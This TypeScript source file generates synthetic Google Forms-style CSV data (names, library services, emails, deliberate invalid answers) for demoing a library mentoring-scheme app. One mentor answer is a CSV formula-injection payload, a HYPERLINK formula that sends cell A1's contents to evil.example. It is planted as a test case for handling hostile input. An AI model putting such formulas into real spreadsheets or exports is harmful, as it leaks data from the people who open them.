import { AREAS } from '../domain/areas';
import {
  CHOICE_FORM,
  CONSENT_OPTION,
  csvColumns,
  MENTEE_FORM,
  MENTOR_FORM,
  mentorOption,
} from '../domain/forms';

/**
 * A realistic synthetic cohort as Google Forms would export it: names from across the four
 * nations (with their diacritics), real-sounding library services, and the awkward cases staff
 * meet: invalid answers, someone applying as both, a resubmission and a formula-like answer.
 */
export interface DemoCohort {
  mentorCsv: string[][];
  menteeCsv: string[][];
}

const FIRST = [
  'Siân',
  'Dafydd',
  'Gwenllïan',
  'Aoife',
  'Siobhán',
  'Seán',
  'Ciarán',
  'Zoë',
  'Chloé',
  'Łukasz',
  'Björn',
  'Niamh',
  'Eilidh',
  'Rhodri',
  'Catrìona',
  'Oisín',
  'Renée',
  'José',
  'Ffion',
  'Iestyn',
  'Mairéad',
  'Tomás',
  'Bethan',
  'Priya',
  'Olúwaseun',
  'Hannah',
  'Graham',
  'Margaret',
  'Deepak',
  'Ruth',
];
const LAST = [
  'Jones',
  'Ó Briain',
  'Llywelyn',
  'MacLeòid',
  'Nowak',
  'Ní Bhriain',
  'Williams',
  'Brontë',
  'Okafor',
  'Patel',
  'Hughes',
  'Ó Súilleabháin',
  'Evans',
  'Smith',
  'Øvergaard',
  'Davies',
  'McAllister',
  'Khan',
  'Roberts',
  'Fitzgerald',
];
const SERVICES = [
  'Kent Libraries',
  'Cardiff Libraries',
  'Libraries NI',
  'Gwynedd Libraries',
  'Manchester Libraries',
  'Norfolk Library and Information Service',
  'Suffolk Libraries',
  'Leeds Libraries',
  'Bristol Libraries',
  'Cornwall Libraries',
  'Swansea Libraries',
  'Jersey Library',
  'Guernsey Library',
  'Devon Libraries',
  'Lincolnshire Libraries',
  'Hampshire Library Service',
  'Newcastle Libraries',
  'Birmingham Libraries',
  'Wrexham Libraries',
  'Cumbria Libraries',
  'Essex Libraries',
  'Barnet Libraries',
  'Hackney Libraries',
  'Sheffield Libraries',
  'Isle of Man Libraries',
  'Ceredigion Libraries',
  'Powys Libraries',
  'York Explore',
  'Oxfordshire Libraries',
  'Somerset Libraries',
  'Nottingham Libraries',
  'Derbyshire Libraries',
  'Liverpool Libraries',
  'Wiltshire Libraries',
  'Shropshire Libraries',
];
const TITLES = [
  'Head of Libraries',
  'Head of Library Services',
  'Libraries and Culture Manager',
  'Service Director, Libraries',
  'Head of Libraries, Heritage and Archives',
];
const GOALS = [
  'Confidence leading a restructure',
  'Support with a capital bid',
  'A sounding board as a new Head of Service',
  'Working better with elected members',
  'Planning a service transformation',
  'Managing a reduced budget',
];

/** Mentors (by position) whose names the demo's certificates must print exactly. */
const RENAMED_MENTORS: Record<number, string> = {
  21: 'Llŷr Gŵyn',
  12: 'Łukasz Dąbrowski',
};

function splitName(name: string): [string, string] {
  const [first, ...rest] = name.split(' ');
  return [first, rest.join(' ')];
}

function prng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Google's export format: "2026/05/14 10:21:03 am GMT+1". */
function googleTimestamp(minutesAfterOpening: number): string {
  const t = new Date(Date.UTC(2026, 4, 1, 8, 0, 0) + minutesAfterOpening * 60_000);
  const pad = (n: number) => String(n).padStart(2, '0');
  const local = new Date(t.getTime() + 3_600_000);
  const h = local.getUTCHours();
  return `${local.getUTCFullYear()}/${pad(local.getUTCMonth() + 1)}/${pad(local.getUTCDate())} ${pad(h % 12 === 0 ? 12 : h % 12)}:${pad(local.getUTCMinutes())}:${pad(local.getUTCSeconds())} ${h < 12 ? 'am' : 'pm'} GMT+1`;
}

/** Letters that Unicode does not decompose into a base letter and an accent. */
const OWN_LETTERS: Record<string, string> = {
  Ø: 'O',
  ø: 'o',
  Ł: 'L',
  ł: 'l',
  Đ: 'D',
  đ: 'd',
  Ð: 'D',
  ð: 'd',
  Þ: 'Th',
  þ: 'th',
  Æ: 'Ae',
  æ: 'ae',
  Œ: 'Oe',
  œ: 'oe',
  ß: 'ss',
  ı: 'i',
};

/** A name as the letters of an e-mail address: "Łukasz Øvergaard" → "lukasz", "overgaard". */
export function asciiLetters(s: string): string {
  return s
    .replace(/[^ -~]/g, (ch) => OWN_LETTERS[ch] ?? ch)
    .normalize('NFKD')
    .replace(/[^A-Za-z]/g, '')
    .toLowerCase();
}

function emailFor(first: string, last: string, service: string): string {
  return `${asciiLetters(first)}.${asciiLetters(last)}@${asciiLetters(service.split(' ')[0])}.gov.example`;
}

export function demoCohort({ mentors = 30, mentees = 40, seed = 2026 } = {}): DemoCohort {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)];
  const someAreas = () => {
    const chosen = new Set<string>();
    const n = 1 + Math.floor(random() * 3);
    while (chosen.size < n) chosen.add(pick(AREAS.slice(0, 6)));
    return AREAS.filter((a) => chosen.has(a)).join(', ');
  };
  const used = new Set<string>();
  const person = (i: number) => {
    let first: string;
    let last: string;
    do {
      first = FIRST[(i * 7 + Math.floor(random() * FIRST.length)) % FIRST.length];
      last = pick(LAST);
    } while (used.has(`${first} ${last}`));
    used.add(`${first} ${last}`);
    const service = SERVICES[i % SERVICES.length];
    return {
      first,
      last,
      name: `${first} ${last}`,
      service,
      email: emailFor(first, last, service),
    };
  };

  // Rows are built by column title, so a question added to the form never shifts an answer.
  const mentorColumns = csvColumns(MENTOR_FORM);
  const mentorRows: string[][] = [mentorColumns];
  const mentorColumn = (title: string) => {
    const at = mentorColumns.indexOf(title);
    if (at < 0) throw new Error(`The mentor form has no column "${title}".`);
    return at;
  };
  const mentorRow = (answers: Readonly<Record<string, string>>) => {
    const row = mentorColumns.map(() => '');
    for (const [title, value] of Object.entries(answers)) row[mentorColumn(title)] = value;
    return row;
  };
  const mentorPeople = [];
  for (let i = 0; i < mentors; i += 1) {
    const p = person(i);
    // Certificates must spell these right: Welsh ŵ and ŷ, Polish Ł (the random draw is kept).
    const renamed = RENAMED_MENTORS[i];
    if (renamed)
      Object.assign(p, { name: renamed, email: emailFor(...splitName(renamed), p.service) });
    mentorPeople.push(p);
    mentorRows.push(
      mentorRow({
        Timestamp: googleTimestamp(30 + i * 47),
        'Email address': p.email,
        'Full name': p.name,
        'Library service': p.service,
        'Job title': pick(TITLES),
        'Are you the Head of Service managing libraries?': 'Yes',
        'Areas where you can offer support': someAreas(),
        'How many mentees could you support?': String(1 + Math.floor(random() * 3)),
        'Link to your 2-minute introduction video': `https://drive.google.com/file/d/demo-video-${i + 1}/view`,
        'Anything else we should know?':
          i === 4 ? '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' : '',
        'I agree to my information being used to run the scheme': CONSENT_OPTION,
      }),
    );
  }
  // The awkward cases staff meet in real exports.
  mentorRows[3][mentorColumn('Are you the Head of Service managing libraries?')] = 'No'; // not a Head of Service
  mentorRows[8][mentorColumn('How many mentees could you support?')] = ''; // did not say how many mentees
  mentorRows[12][mentorColumn('Link to your 2-minute introduction video')] =
    'my video is on the shared drive'; // not a link

  const menteeRows: string[][] = [csvColumns(MENTEE_FORM)];
  for (let i = 0; i < mentees; i += 1) {
    const p = person(mentors + i);
    menteeRows.push([
      googleTimestamp(60 + i * 53),
      p.email,
      p.name,
      p.service,
      pick(TITLES),
      'Yes',
      someAreas(),
      pick(GOALS),
      '',
      CONSENT_OPTION,
    ]);
  }
  menteeRows[2][1] = 'not-an-email-address';
  menteeRows[6][9] = ''; // no consent
  // Applies as both: the second mentor also applies as a mentee.
  const both = mentorPeople[1];
  menteeRows.push([
    googleTimestamp(2900),
    both.email,
    both.name,
    both.service,
    pick(TITLES),
    'Yes',
    someAreas(),
    pick(GOALS),
    '',
    CONSENT_OPTION,
  ]);
  // Applies again later with more areas: the row is updated and the earlier answers are logged.
  const again = [...menteeRows[10]];
  again[0] = googleTimestamp(3100);
  again[6] = 'Budgeting, Working with councillors';
  menteeRows.push(again);
  return { mentorCsv: mentorRows, menteeCsv: menteeRows };
}

interface DemoPerson {
  email: string;
  name: string;
  service: string;
  status: string;
}

/**
 * The choice form as the mentees would fill it after the launch day: a few mentors are very
 * popular; some mentees do not answer; and the mistakes the form invites (the same mentor twice,
 * a mentor without a place, two choices only, someone without a place answering).
 */
export function demoChoices(
  mentors: readonly DemoPerson[],
  mentees: readonly DemoPerson[],
  seed = 7,
): string[][] {
  const random = prng(seed);
  const accepted = mentors.filter((m) => m.status === 'Accepted');
  const popular = accepted.slice(0, 4);
  const rows: string[][] = [csvColumns(CHOICE_FORM)];
  const acceptedMentees = mentees.filter((m) => m.status === 'Accepted');
  acceptedMentees.forEach((mentee, i) => {
    if (i % 9 === 8) return; // did not answer
    const open = accepted.filter((m) => m.service !== mentee.service);
    const picks: DemoPerson[] = [];
    while (picks.length < 3 && picks.length < open.length) {
      const pool = random() < 0.5 ? popular.filter((m) => m.service !== mentee.service) : open;
      const pick = pool[Math.floor(random() * pool.length)];
      if (pick && !picks.includes(pick)) picks.push(pick);
    }
    const answers = picks.map(mentorOption);
    if (i === 1) answers[2] = answers[0]; // the same mentor twice
    if (i === 2) answers.pop(); // only two choices
    if (i === 3) {
      const notAccepted = mentors.find((m) => m.status !== 'Accepted');
      if (notAccepted) answers[1] = mentorOption(notAccepted);
    }
    rows.push([
      googleTimestamp(20_000 + i * 7),
      mentee.email,
      ...answers,
      ...Array(3 - answers.length).fill(''),
    ]);
  });
  const outsider = mentees.find((m) => m.status === 'Waitlisted');
  if (outsider) {
    rows.push([googleTimestamp(21_000), outsider.email, ...accepted.slice(5, 8).map(mentorOption)]);
  }
  return rows;
}
